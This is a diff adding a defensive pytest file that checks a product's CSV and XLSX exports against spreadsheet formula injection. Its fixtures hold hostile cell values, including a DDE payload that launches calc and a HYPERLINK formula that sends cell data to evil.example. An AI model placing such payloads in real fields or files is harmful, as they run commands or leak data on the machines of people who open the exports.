@@ -1,0 +1,308 @@
+"""Every CSV and XLSX file the product writes keeps hostile text from running as a
+formula in the spreadsheet program that opens it.
+
+Dan, a driver of Acme_Home, typed formulas as his name and verification answers, and an
+admin gave the connection a formula-like name and Customer ID. Every export is made here
+(``EXPORTS``), its cells read back, and none may start like a formula. The source and the
+API's schema are searched for exports too: one that is not in ``EXPORTS`` fails
+``test_every_export_of_the_product_is_in_this_test``, and one that writes CSV or XLSX
+without the shared guard (evdms/web/spreadsheets.py) fails
+``test_exports_write_only_through_the_guard``.
+
+Run on SQLite and on PostgreSQL (where the database writes the report's CSV).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Callable
+from dataclasses import dataclass
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from evdms.accounts.models import Role, User
+from evdms.charging.models import Charger
+from evdms.connections.models import Connection
+from evdms.enrolment.models import Membership
+from evdms.reports import views as report_views
+from evdms.reports.models import ReportExport
+from evdms.reports.tests.conftest import Fleet, at, fleet, on_statement
+from evdms.reports.tests.test_exports import body
+from evdms.testing.fixtures import client_for
+from evdms.web.spreadsheets import FORMULA_START, CsvWriter, xlsx_cells
+
+__all__ = ["fleet"]  # the report tests' fixture, used here too
+pytestmark = pytest.mark.django_db
+
+NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+EMAIL = "+dan@example.com"
+ANSWER_1 = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+ANSWER_2 = "-2+3"
+CONNECTION = "\r=2+2"
+CUSTOMER_ID = "\t=1+1"
+CHARGER = "=HOME-1"
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+
+
+@pytest.fixture
+def hostile(fleet: Fleet) -> Fleet:
+    """Dan's session and statement, with formulas wherever people type text."""
+    session = fleet.session(fleet.dan, fleet.acme, at(3), 12_345)
+    on_statement(session, driver_price="0.3100", cap="0.2900")
+    User.objects.filter(pk=fleet.dan.pk).update(full_name=NAME, email=EMAIL)
+    Membership.objects.filter(pk=fleet.dan_membership.pk).update(
+        verification_1=ANSWER_1, verification_2=ANSWER_2
+    )
+    Connection.objects.filter(pk=fleet.acme.pk).update(name=CONNECTION, customer_id=CUSTOMER_ID)
+    Charger.objects.filter(driver=fleet.dan).update(identity=CHARGER)
+    return fleet
+
+
+def _body(response: Any) -> bytes:
+    assert response.status_code == 200, response
+    return body(response)
+
+
+def _in_worker(client: Client, fmt: str, monkeypatch: Any, on_commit: Any) -> bytes:
+    monkeypatch.setattr(report_views, "SYNC_EXPORT_ROWS", 0)
+    with on_commit(execute=True):
+        client.post(reverse("reports:transactions_export"), {"format": fmt})
+    export = ReportExport.objects.get(format=fmt)
+    assert export.status == "done", export.error
+    return _body(client.get(reverse("reports:export_file", args=[export.pk])))
+
+
+def _api_export(client: Client, headers: dict[str, str], fmt: str, on_commit: Any) -> bytes:
+    with on_commit(execute=True):
+        made = client.post(
+            "/api/v1/reports/exports",
+            {"format": fmt},
+            content_type="application/json",
+            headers=headers,
+        )
+    status = client.get(f"/api/v1/reports/exports/{made.json()['id']}", headers=headers).json()
+    assert status["status"] == "done", status
+    return _body(client.get(status["download_url"], headers=headers))
+
+
+@dataclass(frozen=True)
+class Export:
+    name: str
+    format: str  # csv or xlsx
+    modules: tuple[str, ...]  # the files (under evdms/) that make it
+    make: Callable[[Fleet, dict[str, Any]], bytes]
+    hostile: tuple[str, ...]  # the hostile values it must carry (neutralised)
+    api_path: str = ""
+
+
+REPORT = (NAME, EMAIL, ANSWER_1, ANSWER_2, CONNECTION, CUSTOMER_ID, CHARGER)
+REPORT_MODULES = ("reports/views.py", "reports/downloads.py", "reports/exports.py")
+WORKER_MODULES = ("reports/tasks.py", "reports/downloads.py", "reports/exports.py")
+
+EXPORTS = [
+    Export(
+        "Connections list CSV",
+        "csv",
+        ("connections/views.py", "connections/listing.py"),
+        lambda f, x: _body(
+            client_for(f.world.nadia).get(
+                reverse("connections:list"), {"export": "csv", "which": "all"}
+            )
+        ),
+        (CONNECTION, CUSTOMER_ID),
+    ),
+    Export(
+        "Drivers list CSV",
+        "csv",
+        ("enrolment/views.py",),
+        lambda f, x: _body(
+            client_for(f.world.nadia).get(reverse("enrolment:drivers"), {"export": "csv"})
+        ),
+        (NAME, EMAIL, CONNECTION, ANSWER_1, ANSWER_2),
+    ),
+    Export(
+        "Statements page CSV",
+        "csv",
+        ("reimbursements/views.py", "reimbursements/selectors.py"),
+        lambda f, x: _body(
+            client_for(f.world.ana).get(reverse("reimbursements:statements"), {"export": "csv"})
+        ),
+        (EMAIL,),
+    ),
+    Export(
+        "Statements API CSV",
+        "csv",
+        ("reimbursements/api.py", "reimbursements/selectors.py"),
+        lambda f, x: _body(
+            x["client"].get("/api/v1/statements.csv", headers=x["api_key"](f.world.org_a))
+        ),
+        (EMAIL,),
+        api_path="/api/v1/statements.csv",
+    ),
+    Export(
+        "Transactions page CSV",
+        "csv",
+        REPORT_MODULES,
+        lambda f, x: _body(
+            client_for(f.world.ana).post(reverse("reports:transactions_export"), {"format": "csv"})
+        ),
+        REPORT,
+    ),
+    Export(
+        "Transactions page XLSX",
+        "xlsx",
+        REPORT_MODULES,
+        lambda f, x: _body(
+            client_for(f.world.ana).post(reverse("reports:transactions_export"), {"format": "xlsx"})
+        ),
+        REPORT,
+    ),
+    Export(
+        "Transactions CSV made by the worker",
+        "csv",
+        WORKER_MODULES,
+        lambda f, x: _in_worker(client_for(f.world.ana), "csv", x["monkeypatch"], x["on_commit"]),
+        REPORT,
+    ),
+    Export(
+        "Transactions XLSX made by the worker",
+        "xlsx",
+        WORKER_MODULES,
+        lambda f, x: _in_worker(client_for(f.world.ana), "xlsx", x["monkeypatch"], x["on_commit"]),
+        REPORT,
+    ),
+    Export(
+        "Transactions API CSV",
+        "csv",
+        ("reports/api.py", "reports/exports.py"),
+        lambda f, x: _body(
+            x["client"].get(
+                "/api/v1/reports/transactions.csv",
+                headers=x["api_key"](f.world.org_a, Role.ANALYST),
+            )
+        ),
+        REPORT,
+        api_path="/api/v1/reports/transactions.csv",
+    ),
+    Export(
+        "Transactions API export (CSV) file",
+        "csv",
+        ("reports/api.py", *WORKER_MODULES),
+        lambda f, x: _api_export(x["client"], x["api_key"](f.world.org_a), "csv", x["on_commit"]),
+        REPORT,
+        api_path="/api/v1/reports/exports/{export_id}/file",
+    ),
+    Export(
+        "Transactions API export (XLSX) file",
+        "xlsx",
+        ("reports/api.py", *WORKER_MODULES),
+        lambda f, x: _api_export(x["client"], x["api_key"](f.world.org_a), "xlsx", x["on_commit"]),
+        REPORT,
+        api_path="/api/v1/reports/exports/{export_id}/file",
+    ),
+]
+
+
+def _csv_cells(data: bytes) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+
+
+@pytest.mark.parametrize("export", EXPORTS, ids=[e.name for e in EXPORTS])
+def test_no_cell_of_any_export_runs_as_a_formula(
+    export: Export,
+    hostile: Fleet,
+    client,
+    api_key_for,
+    monkeypatch,
+    django_capture_on_commit_callbacks,
+):
+    data = export.make(
+        hostile,
+        {
+            "client": client,
+            "api_key": api_key_for,
+            "monkeypatch": monkeypatch,
+            "on_commit": django_capture_on_commit_callbacks,
+        },
+    )
+    if export.format == "csv":
+        texts = _csv_cells(data)
+        live = [c for c in texts if c[:1] in FORMULA_START and not NUMBER.fullmatch(c)]
+        assert live == []
+        for value in export.hostile:  # written, and shown as the text it is
+            assert "'" + value in texts
+    else:
+        sheet = load_workbook(io.BytesIO(data)).active
+        assert sheet is not None
+        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        text_cells = {c.value: c for c in cells if c.data_type == "s"}
+        for value in export.hostile:
+            # Text, kept as text when someone edits the cell (the quote-prefix style). XML
+            # reads a carriage return as a line feed.
+            assert text_cells[value.replace("\r", "\n")].quotePrefix
+        assert 12.345 in [c.value for c in cells if c.data_type == "n"]  # numbers stay numbers
+
+
+def test_numbers_stay_numbers_even_when_negative():
+    """The guard is for text: a refund of -3.50 is a number, not the text "'-3.50"."""
+    out = io.StringIO()
+    CsvWriter(out, lineterminator="\n").writerow([Decimal("-3.50"), -7, "-3.50"])
+    assert out.getvalue() == "-3.50,-7,'-3.50\n"
+    from openpyxl import Workbook
+
+    sheet = Workbook(write_only=True).create_sheet()
+    amount, count, text = xlsx_cells(sheet, [Decimal("-3.50"), -7, "-3.50"])
+    assert (amount, count) == (Decimal("-3.50"), -7) and text.data_type == "s"
+
+
+EVDMS = Path(__file__).resolve().parents[2]
+# What makes a file an export: the content types, the writers, a database dump.
+EXPORT_MARKERS = re.compile(
+    r"text/csv|spreadsheetml|CSV_TYPE|XLSX_TYPE|csv\.writer|DictWriter|openpyxl|xlsxwriter"
+    r"|TO STDOUT|CsvWriter|xlsx_cells"
+)
+
+
+def _sources() -> dict[str, str]:
+    return {
+        str(path.relative_to(EVDMS)): path.read_text()
+        for path in EVDMS.rglob("*.py")
+        if "tests" not in path.parts and "migrations" not in path.parts
+    }
+
+
+def test_every_export_of_the_product_is_in_this_test(client):
+    covered = {module for export in EXPORTS for module in export.modules}
+    making = {
+        name
+        for name, text in _sources().items()
+        if EXPORT_MARKERS.search(text) and name != "web/spreadsheets.py"
+    }
+    assert making - covered == set(), "an export missing from EXPORTS: add a case for it"
+    schema = client.get("/api/v1/openapi.json").json()
+    downloads = {
+        "/api/v1" + p if not p.startswith("/api/v1") else p
+        for p in schema["paths"]
+        if p.endswith((".csv", ".xlsx", "/file"))
+    }
+    assert downloads - {e.api_path for e in EXPORTS} == set()
+
+
+def test_exports_write_only_through_the_guard():
+    for name, text in _sources().items():
+        if name == "web/spreadsheets.py":
+            continue
+        assert not re.search(r"csv\.(writer|DictWriter)\(", text), f"{name}: use CsvWriter"
+        if "openpyxl" in text:
+            assert "xlsx_cells(" in text, f"{name}: append rows through xlsx_cells"
+        if "TO STDOUT" in text:
+            assert "pg_text_cell(" in text, f"{name}: guard COPY's text with pg_text_cell"
